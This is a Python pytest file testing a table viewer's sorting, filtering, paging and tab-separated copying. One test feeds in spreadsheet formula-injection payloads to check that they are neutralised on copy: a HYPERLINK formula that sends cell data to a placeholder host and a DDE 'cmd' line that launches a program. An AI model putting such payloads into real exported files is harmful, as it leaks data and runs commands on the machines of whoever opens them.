"""Sorting, filtering and paging give what Python's own sorting and searching would."""

import csv
import io

import numpy as np
import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tunesmith.core.errors import CancelledError, InputError
from tunesmith.core.events import MemorySink
from tunesmith.core.formula_cells import as_text
from tunesmith.data.table_view import (
    PAGE_ROWS,
    SHOWN_CHARACTERS,
    Filter,
    Order,
    TableView,
    arrange,
)

TEXTS = st.lists(
    st.none() | st.sampled_from(["", " ", "b", "B", "a", "Ärger", "ärger", "a b", "10", "9"])
)


def table_of(**columns: list[str | None]) -> pa.Table:
    arrays = {name: pa.array(cells, pa.large_string()) for name, cells in columns.items()}
    return pa.table(arrays)


def numbers(count: int) -> np.ndarray:
    return np.arange(2, count + 2, dtype=np.uint32)


def shown(table: pa.Table, column: str, rows: pa.Array | None) -> list[str | None]:
    cells = table.column(column).to_pylist()
    return cells if rows is None else [cells[row] for row in rows.to_pylist()]


@given(TEXTS, st.booleans())
def test_sorting_is_stable_ignores_case_and_puts_empty_cells_last(
    cells: list[str | None], descending: bool
) -> None:
    def is_empty(row: int) -> bool:
        return not (cells[row] or "").strip()

    filled = [row for row in range(len(cells)) if not is_empty(row)]
    filled.sort(key=lambda row: (cells[row] or "").strip().lower(), reverse=False)
    if descending:
        # Equal cells keep the file's order in both directions.
        keys = sorted({(cells[row] or "").strip().lower() for row in filled}, reverse=True)
        filled = [
            row for key in keys for row in filled if (cells[row] or "").strip().lower() == key
        ]
    expected = filled + [row for row in range(len(cells)) if is_empty(row)]
    rows = arrange(table_of(a=cells), Order("a", descending))
    assert rows.to_pylist() == expected


def test_numbers_sort_as_numbers() -> None:
    table = table_of(n=["10", "9", None, "-1.5", " 9.25 "])
    rows = arrange(table, Order("n"), types={"n": "number"})
    assert shown(table, "n", rows) == ["-1.5", "9", " 9.25 ", "10", None]
    rows = arrange(table, Order("n", descending=True), types={"n": "number"})
    assert shown(table, "n", rows) == ["10", " 9.25 ", "9", "-1.5", None]


@given(TEXTS, TEXTS, st.sampled_from(["a", "B", "ä", "1", " ", "none", "."]))
def test_filtering_finds_the_text_in_any_column_ignoring_case(
    first: list[str | None], second: list[str | None], text: str
) -> None:
    count = min(len(first), len(second))
    table = table_of(a=first[:count], b=second[:count])
    expected = [
        row
        for row in range(count)
        if any(text.lower() in (cells[row] or "").lower() for cells in (first, second))
    ]
    assert arrange(table, None, Filter(text)).to_pylist() == expected
    only_b = [row for row in range(count) if text.lower() in (second[row] or "").lower()]
    assert arrange(table, None, Filter(text, "b")).to_pylist() == only_b


def test_filter_and_order_hold_together_and_within_given_rows() -> None:
    table = table_of(a=["c x", "a x", "b", "d x"], b=[None] * 4)
    rows = arrange(table, Order("a"), Filter("X"))
    assert shown(table, "a", rows) == ["a x", "c x", "d x"]
    kept = pa.array([3, 2, 0], pa.uint32())
    assert arrange(table, Order("a"), Filter("x"), rows=kept).to_pylist() == [0, 3]
    assert arrange(table, None, Filter("x"), rows=kept).to_pylist() == [3, 0]
    assert arrange(table, rows=kept).to_pylist() == [3, 2, 0]
    assert arrange(table, None, Filter("")) is None
    assert arrange(table, Order("a"), Filter("nothing like it")).to_pylist() == []


def test_an_unknown_column_is_named_with_the_known_ones() -> None:
    with pytest.raises(InputError) as caught:
        arrange(table_of(a=["1"], b=["2"]), Order("c"))
    assert caught.value.code == "data.column-unknown"
    assert "a, b" in caught.value.hint


def test_arranging_stops_when_cancelled() -> None:
    sink = MemorySink()
    sink.cancelled = True
    for order, wanted in ((Order("a"), None), (None, Filter("x"))):
        with pytest.raises(CancelledError):
            arrange(table_of(a=["1"]), order, wanted, sink=sink)


def test_pages_have_the_rows_in_their_order_with_their_numbers() -> None:
    count = 2 * PAGE_ROWS + 10
    table = table_of(n=[str(row) for row in range(count)])
    view = TableView(table, numbers(count), pa.array(range(count - 1, -1, -1), pa.uint32()))
    page = view.page(1)
    expected = list(range(count - 1 - PAGE_ROWS, count - 1 - 2 * PAGE_ROWS, -1))
    assert page.cells[0] == [str(row) for row in expected]
    assert page.row_numbers == [row + 2 for row in expected]
    assert len(view.page(2).row_numbers) == 10
    assert view.page(1) is page, "kept"
    assert view.cached(0) is None
    plain = TableView(table, numbers(count))
    assert plain.page(1).cells[0][0] == str(PAGE_ROWS)
    assert plain.row_number(5) == 7


def test_only_the_latest_pages_are_kept() -> None:
    count = 100 * PAGE_ROWS
    view = TableView(table_of(n=["x"] * count), numbers(count))
    for number in range(100):
        view.page(number)
    assert view.cached(99) is not None
    assert view.cached(0) is None


def test_a_cell_is_shown_on_one_short_line_and_kept_whole() -> None:
    long = "é" * (SHOWN_CHARACTERS + 50)
    table = table_of(a=["one\r\ntwo\u2028three\tfour", long, " \n\u00a0", None, "0"])
    view = TableView(table, numbers(5))
    assert view.read(0, 5).cells[0] == [
        "one two three four",
        long[:SHOWN_CHARACTERS],
        None,
        None,
        "0",
    ]
    assert view.cell(1, 0) == long
    assert view.cell(2, 0) == " \n\u00a0"
    assert view.is_one_line(1, 0)
    assert not view.is_one_line(0, 0)


def test_a_cell_of_nothing_but_white_space_is_empty_and_one_that_begins_so_is_not() -> None:
    spaces = ["\x0b", "\x1c\x1f", "\x85", "\u2003\u3000", " "]
    cells = [*spaces, "", "\u200b", " " * SHOWN_CHARACTERS + "x"]
    shown = TableView(table_of(a=cells), numbers(8)).read(0, 8).cells[0]
    assert shown == [None] * 6 + ["\u200b", " " * SHOWN_CHARACTERS]


def test_rows_are_found_again_in_another_order() -> None:
    view = TableView(table_of(a=["x", "y", "z"]), numbers(3), pa.array([2, 0], pa.uint32()))
    assert [view.shown_row(row) for row in range(3)] == [1, None, 0]
    assert [view.table_row(row) for row in range(2)] == [2, 0]
    assert TableView(table_of(a=["x"]), numbers(1)).shown_row(1) is None
    assert view.largest_row_number == 4


@given(st.lists(st.tuples(st.text("a\t\n\r\" '"), st.none() | st.text('ä,;"\t'))))
def test_copied_rows_come_back_from_a_tab_separated_reader(
    rows: list[tuple[str, str | None]],
) -> None:
    table = table_of(**{"x": [row[0] for row in rows], 'q"y': [row[1] for row in rows]})
    view = TableView(table, numbers(len(rows)))
    text = view.tab_separated([(0, len(rows))])
    back = list(csv.reader(io.StringIO(text, newline=""), delimiter="\t"))
    assert back[0] == ["x", 'q"y']
    assert back[1:] == [[_marked(first), _marked(second or "")] for first, second in rows]


def _marked(cell: str) -> str:
    return "'" + cell if cell.startswith(("\t", "\r", "\n")) else cell


def test_formulas_are_copied_as_texts_and_numbers_as_they_are() -> None:
    formulas = [
        *('=HYPERLINK("http://x/?"&A1)', "@SUM(1)", "-2+3", "+A1", "-cmd|' /C calc'!A0"),
        *("\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "=", "-", "- a list", "-1e", "+1%%", "-1\n=2"),
    ]
    plain = [
        "+1",
        "-2.50",
        "-1.234,5",
        "+49 30 1234567",
        "-1e-5",
        "+5 %",
        "-.5",
        "a=1",
        " x",
        "'=1",
    ]
    rows = [*formulas, *plain]
    text = TableView(table_of(**{"=a": rows}), numbers(len(rows))).tab_separated([(0, len(rows))])
    back = [row[0] for row in csv.reader(io.StringIO(text, newline=""), delimiter="\t")]
    assert back == ["'=a", *("'" + cell for cell in formulas), *plain]
    assert list(map(as_text, rows)) == back[1:], "Python and RE2 read the expressions alike"


def test_chosen_ranges_and_columns_are_copied() -> None:
    view = TableView(
        table_of(a=["1", "2", "3"], b=["x", "y", "z"]), numbers(3), pa.array([2, 1, 0], pa.uint32())
    )
    assert view.tab_separated([(0, 1), (2, 1)], [1]) == "b\nz\nx\n"
